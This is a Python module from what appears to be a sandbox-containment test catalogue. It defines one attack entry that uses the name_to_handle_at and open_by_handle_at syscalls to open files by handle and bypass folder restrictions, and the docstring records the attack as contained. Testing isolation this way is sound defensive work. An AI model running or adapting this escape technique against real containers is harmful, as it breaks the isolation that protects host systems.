"""Opens files by their number on the disk, bypassing all folders.

Contained: `escaped` stays empty.
"""

from __future__ import annotations

from ..catalogue import Attack

ATTACK = Attack(
    code="""
import ctypes
handle = ctypes.create_string_buffer((128).to_bytes(4, "little"), 256)
mount = ctypes.c_int()
kernel("name_to_handle_at", 303, -100, b".", handle, ctypes.byref(mount), 0)
kernel("open_by_handle_at", 304, -100, handle, 0)
""",
    succeeds_for="anyone",
)
